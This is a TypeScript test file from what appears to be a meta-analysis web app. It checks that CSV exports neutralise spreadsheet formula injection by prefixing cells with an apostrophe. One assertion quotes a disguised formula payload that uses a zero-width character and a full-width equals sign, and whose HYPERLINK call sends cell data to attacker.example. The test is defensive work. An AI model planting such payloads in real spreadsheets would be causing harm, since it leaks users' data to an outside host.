// Every CSV download, with what a user typed in every text field being a formula payload: no cell of the file
// starts a formula in a spreadsheet, and each reads back as typed behind the apostrophe that defuses it.
import { toCsv as textToCsv } from '@cumulus/text';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { bcgPooled } from '../charts/test-data';
import type { StudyResult } from '../graphql/outcome';
import type { StudyDetail } from '../graphql/reviews';
import { formulaPayloads, startsFormula } from './formula-payloads';
import { forestCsv, leaveOneOutCsv, studiesCsv } from './tables';
import { toCsv, type CsvFile } from './to-csv';

/** The file's cells as a spreadsheet reads them (RFC 4180; quoted cells unquoted). */
const cellsOf = (file: CsvFile): string[][] => parse(file.content, { relax_column_count: false });
/** Numbers the tables write as numbers (an estimate of -0.25 is a number, not a formula). */
const isNumber = (cell: string) => /^-?\d+(\.\d+)?(e[-+]?\d+)?$/i.test(cell);

function expectDefused(file: CsvFile, typed: readonly string[]) {
  const cells = cellsOf(file).flat();
  for (const cell of cells) if (!isNumber(cell)) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
  for (const text of typed) expect(cells, JSON.stringify(text)).toContain(`'${text}`);
}

describe('CSV downloads defuse formulas', () => {
  it('are written by @cumulus/text, the same rule as the API downloads', () => {
    expect(toCsv).toBe(textToCsv);
  });

  it(`has ${formulaPayloads.length} payloads: = + - @ tab CR and full-width ＝＋－＠, behind spaces or invisible characters, with quotes and commas`, () => {
    expect(formulaPayloads).toHaveLength(400);
    expect(formulaPayloads).toContain('\u200b\uff1dHYPERLINK("http://attacker.example/?d="&A1,"Open")');
    expect(formulaPayloads.every(startsFormula)).toBe(true);
  });

  it('in the forest plot data: study labels and subgroup names', () => {
    for (const payload of formulaPayloads) {
      const study: StudyResult = { studyId: 's', rowId: 'r', rowLabel: null, label: payload, estimate: -0.25, ciLower: -0.5, ciUpper: 0.1, weight: 100, subgroup: payload, year: 2019 };
      const file = forestCsv('Deaths', { ...bcgPooled, measure: 'MD', studies: [study], k: 1, estimate: -0.25, ciLower: -0.5, ciUpper: 0.1 });
      expectDefused(file, [payload]);
      // The numbers stay numbers.
      expect(cellsOf(file)[1].slice(3)).toEqual(['-0.25', '-0.5', '0.1', '100']);
    }
  });

  it('in the leave-one-out table: the study left out', () => {
    for (const payload of formulaPayloads) {
      const file = leaveOneOutCsv('Deaths', [{ omittedStudyId: 's', label: payload, estimate: -0.3, ciLower: -0.6, ciUpper: 0, pValue: 0.05, i2: 0, tau2: 0 }]);
      expectDefused(file, [payload]);
      expect(cellsOf(file)[1].slice(1, 3)).toEqual(['-0.3', '-0.6']);
    }
  });

  it('in the studies table: label, registry, country, characteristic names and values, adverse events, retraction reason', () => {
    for (const payload of formulaPayloads) {
      const study: StudyDetail = {
        id: 's',
        label: payload,
        year: 2019,
        registryId: payload,
        design: 'RCT',
        country: payload,
        participants: 40,
        characteristics: { [payload]: payload },
        adverseEvents: { patientsWithEvents: null, description: payload },
        retracted: true,
        retractionReason: payload,
        qualityAssessments: [],
      };
      const file = studiesCsv('Review', [study]);
      // The characteristic's name heads its column as characteristicName() words it (first letter capitalised).
      const cells = cellsOf(file);
      for (const cell of cells.flat()) if (!isNumber(cell)) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
      expect(cells[1].filter((cell) => cell === `'${payload}`)).toHaveLength(6);
    }
  });
});
